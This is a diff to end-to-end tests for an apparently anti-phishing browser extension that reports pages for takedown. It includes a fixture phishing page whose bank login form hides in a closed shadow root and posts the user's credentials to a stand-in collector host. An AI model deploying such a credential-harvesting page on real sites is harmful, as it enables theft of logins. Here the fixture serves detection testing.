@@ -1,7 +1,7 @@
 import { createHash } from 'node:crypto';
 import { test, expect, openWebPage } from './fixtures.ts';
 import { clickButton, fill, find, textOf } from './dom.ts';
-import { connect, openPopupOver, openReportDetails } from './steps.ts';
+import { clickMenu, connect, openPopupOver, openReportDetails } from './steps.ts';
 import { incidentFor, reportRequests } from '../e2e/reporting-helpers.ts';
 
 test('a page reported from the popup arrives with a stamped screenshot, page evidence and a record whose hashes match', async ({ extension, sandbox, web }) => {
@@ -13,6 +13,12 @@ test('a page reported from the popup arrives with a stamped screenshot, page evi
   await expect.poll(() => popup.evaluate(() => (document.querySelector('#report-subject') as HTMLInputElement | null)?.value)).toBe(url);
   await openReportDetails(popup);
   await find(popup, 'img[alt="The screenshot that will be sent"]');
+  // The screenshot goes stamped with the address and time, as in Chromium.
+  expect(
+    await popup.evaluate(() =>
+      [...document.querySelectorAll('label')].some((label) => /^Screenshot, stamped/.test((label.textContent ?? '').trim()) && (label.control as HTMLInputElement | null)?.checked),
+    ),
+  ).toBe(true);
   await fill(popup, 'Comment for the analyst (optional)', 'Seen in an SMS campaign');
   await fill(popup, 'Your email (reportedBy)', 'soc@acme.example');
   await clickButton(popup, 'Report for takedown');
@@ -31,4 +37,31 @@ test('a page reported from the popup arrives with a stamped screenshot, page evi
   for (const file of [shot!, source!, details!]) expect(record!.text).toContain(`${file.sha256}  ${file.name}`);
   expect(record!.text).toMatch(/Browser: Firefox 1\d\d/);
   expect(createHash('sha256').update(source!.text!).digest('hex')).toBe(source!.sha256);
+});
+
+/** A login form posting elsewhere, in a closed shadow root inside an open one; the page keeps no handle on the closed root. */
+const SHADOW_LOGIN = `<!doctype html><html><head><meta charset="utf-8"><title>Shadow login</title></head><body>
+<h1>Sign in</h1><app-shell></app-shell>
+<script>
+  const outer = document.querySelector('app-shell').attachShadow({ mode: 'open' });
+  outer.innerHTML = '<header>Acme Bank</header><login-box></login-box>';
+  outer.querySelector('login-box').attachShadow({ mode: 'closed' }).innerHTML =
+    '<form action="https://collect.shadow-kit.example/post.php" method="post">' +
+    '<input name="user" type="email"><input name="secret" type="password"><button>Sign in</button></form>';
+</script></body></html>`;
+
+test('a login form in a closed shadow root is in the page source and details a menu report sends (Firefox reads it with openOrClosedShadowRoot)', async ({ extension, sandbox, web }) => {
+  const options = await connect(extension, sandbox);
+  web.serve('/shadow-login', SHADOW_LOGIN);
+  const url = `${web.origin()}/shadow-login`;
+  await openWebPage(extension.browser, url);
+  await clickMenu(options, { menuItemId: 'takedown-reporter:report-page-tkd', pageUrl: url });
+  const incident = (await incidentFor(sandbox, url))!;
+  const text = (name: string) => incident.attachments.find((file) => file.name === name)?.text ?? '';
+  expect(text('page-source.txt')).toMatch(
+    /<app-shell><template shadowrootmode="open"><header>Acme Bank<\/header><login-box><template shadowrootmode="closed"><form action="https:\/\/collect\.shadow-kit\.example\/post\.php" method="post">/,
+  );
+  const details = text('page-details.txt').split('\n');
+  expect(details).toContain('Shadow roots read: 2. The page source shows each inside its host, as a <template shadowrootmode> element.');
+  expect(details).toContain('  Form 1 sends to https://collect.shadow-kit.example/post.php (POST) (in a closed shadow root of <login-box>)');
 });
